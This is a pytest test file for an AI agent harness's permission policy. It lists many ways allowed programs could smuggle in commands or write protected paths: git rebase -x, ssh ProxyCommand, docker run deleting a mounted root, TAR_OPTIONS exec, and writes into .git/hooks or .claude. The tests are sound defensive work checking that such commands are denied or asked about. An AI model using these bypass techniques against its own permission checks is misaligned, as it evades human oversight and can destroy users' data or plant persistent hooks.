"""Programs an allow rule covers that run a command given as data (``git submodule foreach``, ``git rebase -x``,
``docker run IMAGE CMD``, ``helm --post-renderer``, ``npm config set script-shell``) or write a file named by an
option or operand (``tar -C``, ``git archive -o``, ``git clone URL DIR``, ``docker cp``): deny rules look into
the command they run, an allow rule for the program does not cover it, and a write to a protected path is asked
about whatever the mode or a hook says.

Rule set: the harness's (allows for git, npm, docker, kubectl, helm, tar, go, cargo, base64 …; denies for
``rm``, ``touch``, ``curl``). Each rules case is checked in every mode, behind a hook's allow and a whole-tool
``Bash`` allow.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from hookloop.permissions import HookVote, PermissionMode, PermissionPolicy
from permissions.evasion_harness import ALLOW, ASK, DENY, MODES, Case, Rules, check_case

DENIED = [
    "git submodule foreach 'touch x'",
    "git submodule --quiet foreach --recursive rm -rf x",
    "git bisect run touch x",
    "git rebase -x 'rm -rf x' HEAD~1",
    "git rebase --exec='touch x' HEAD~1",
    "git rebase -i --exec 'rm x' main",
    "git filter-branch --tree-filter 'rm -f x' HEAD",
    "git filter-branch --env-filter 'touch x' -- --all",
    "git difftool -x 'rm x'",
    "git difftool --extcmd=touch",
    "git grep --open-files-in-pager='rm x' pattern",
    "git clone -c core.sshCommand='touch x' https://example.com/r dir",
    "git clone --config=core.fsmonitor='rm x' https://example.com/r",
    "git config core.pager 'rm -rf x'",
    "git config set alias.x '!touch x'",
    "docker run -v /:/host alpine rm -rf /host",
    "docker run --rm --entrypoint touch alpine x",
    "docker container run alpine rm x",
    "docker compose run web rm -rf /data",
    "podman run alpine rm x",
    "kubectl run x --image=alpine -- rm -rf /",
]
ASKED = [  # the harness asks for `pip install`: reached through python's -m and uv's pip interface
    "python3 -m pip install evil",
    "python -m pip --isolated install evil",
    "python3 -mpip install evil",
    "python3 -Im pip install evil",
    "python3 -W ignore -m pip install evil",
    "uv pip install evil",
]
UNMATCHED = [
    "git submodule foreach 'echo hi'",
    "git bisect run make test",
    "git rebase -x 'make test' HEAD~2",
    "git grep -O pattern",
    "git hook run pre-commit",
    "helm install x --post-renderer ./render",
    "npm config set script-shell ./shell",
    "npm set script-shell=./shell",
    "pnpm config set node-options=--require=./x.js",
    # Variables a covered program reads its options or configuration from, and runs code by.
    "MAKEFLAGS='--eval=x:;true' make",
    "GOFLAGS=-toolexec=./x go build",
    "CC=./evil make",
    "TAR_OPTIONS='--to-command=sh' tar -tf x.tar",
    "KUBECONFIG=./evil kubectl get pods",
    "DOCKER_CONFIG=./evil docker pull alpine",
    "export TAR_OPTIONS=--checkpoint-action=exec=sh; tar -tf x.tar",
    "PIP_CONFIG_FILE=./evil pip download x",
]
ALLOWED = [
    "git submodule update --init --recursive",
    "git bisect start",
    "git rebase -i HEAD~3",
    "git grep -n pattern",
    "git clone https://example.com/r",
    "git clone https://example.com/r vendor/r",
    "docker run --rm alpine ls",
    "docker compose up -d",
    "kubectl get pods",
    "helm install x ./chart",
    "npm config set registry https://registry.example.com",
    "tar -czf x.tgz -C build .",  # (extracting asks about the files the archive holds: test_evasion_archives)
    "python3 -m http.server",
    "python3 -m pytest -q",
    "tar -cf out.tar src",
    "git archive -o out.tar HEAD",
    "go build -o bin/app ./cmd/app",
    "docker cp c:/etc/hosts out/hosts",
]
ALLOWED_WITH = Rules(allow=(*ALLOW, "Bash(ln:*)", "Bash(cp:*)", "Bash(ssh:*)", "Bash(scp:*)", "Bash(wget:*)"))
# ssh runs ProxyCommand / LocalCommand / KnownHostsCommand here, not on the remote host; wget -e runs a wgetrc line.
REMOTE_DENIED = [
    "ssh -o ProxyCommand='rm -rf x' host",
    "ssh -o 'ProxyCommand touch x' host",
    "ssh -oProxyCommand='touch x' host",
    "ssh -o LocalCommand='rm x' -o PermitLocalCommand=yes host",
    "scp -o ProxyCommand='rm x' a host:b",
]
REMOTE_UNMATCHED = ["ssh -F ./config host", "ssh -o ProxyCommand='nc %h %p' host", "wget -e use_askpass=./x https://e"]
REMOTE_ALLOWED = ["ssh -o StrictHostKeyChecking=no host ls", "wget https://example.com/x"]
LINKS_ALLOWED = ["ln -s src/a.py b.py", "cp -r src out", "cp -s src/a.py a.py"]
CASES = (
    [Case(c, "deny") for c in DENIED] + [Case(c, "unmatched") for c in UNMATCHED] + [Case(c, "allow") for c in ALLOWED]
)


@pytest.mark.parametrize("case", CASES, ids=[c.command for c in CASES])
def test_programs_that_run_a_command_they_are_given(case: Case, tmp_path: Path) -> None:
    check_case(case, tmp_path)


PROTECTED_WRITES = [
    "tar -xf x.tar -C .git/hooks",
    "tar xzf x.tgz --directory=.claude",
    "tar -cf .git/hooks/pre-commit src",
    "tar -C .hookloop -xvf x.tar",
    "git archive -o .git/hooks/pre-commit HEAD",
    "git archive --output=.git/hooks/pre-commit HEAD",
    "git format-patch -o .git/hooks HEAD~1",
    "git bundle create .git/hooks/pre-commit HEAD",
    "git clone https://example.com/r .git/hooks",
    "git clone --depth 1 https://example.com/r .claude/agents",
    "git worktree add .claude/x",
    "git init .git/hooks",
    "git init --template=templates",  # copies the template's hooks into .git/hooks
    "git checkout-index --prefix=.git/hooks/ -a",
    "git --work-tree=.git/hooks checkout HEAD -- pre-commit",
    "git mv hook.sh .git/hooks/pre-commit",
    "go build -o .git/hooks/pre-commit ./cmd/hook",
    "cargo build --target-dir .git/hooks",
    "docker cp c:/x .git/hooks/pre-commit",
    "kubectl cp ns/pod:/x .git/hooks/pre-commit",
    "npm pack --pack-destination .git/hooks",
    "base64 -d payload -o .git/hooks/pre-commit",
    "uv pip install --target .hookloop x",
    "wget -e output_document=.git/hooks/pre-commit https://example.com/x",
    # A link made in the same command is a way into what it points to.
    "ln -s .git/hooks h && echo x > h/pre-commit",
    "ln -s .git g; echo x > g/config",
    "ln -sfn ../.claude c",
    "cp -s .git/config x",
    "cp -rl .git y",
]
HOOK_ALLOW = HookVote(behavior="allow", reason="looks fine", hook="approve-all")


@pytest.mark.parametrize("hooked", [False, True], ids=["no-hook", "hook-allow"])
@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("command", PROTECTED_WRITES)
def test_a_program_writing_a_protected_path_through_an_option_or_operand_is_asked_about(
    tmp_path: Path, command: str, mode: PermissionMode, hooked: bool
) -> None:
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    policy = PermissionPolicy(
        allow=[*ALLOW, "Bash(uv:*)", "Bash(ln:*)", "Bash(cp:*)", "Bash(wget:*)"],
        ask=ASK,
        deny=DENY,
        mode=mode,
        workspace=tmp_path,
    )
    outcome = policy.decide("Bash", {"command": command}, hooks=[HOOK_ALLOW] if hooked else [])
    if mode == "dontAsk":
        assert outcome.behavior == "deny", outcome
    elif mode == "plan":  # asked, or denied where plan refuses what no allow rule covers (`--output` runs code)
        assert outcome.behavior in {"ask", "deny"}, outcome
    else:
        assert outcome.behavior == "ask", outcome
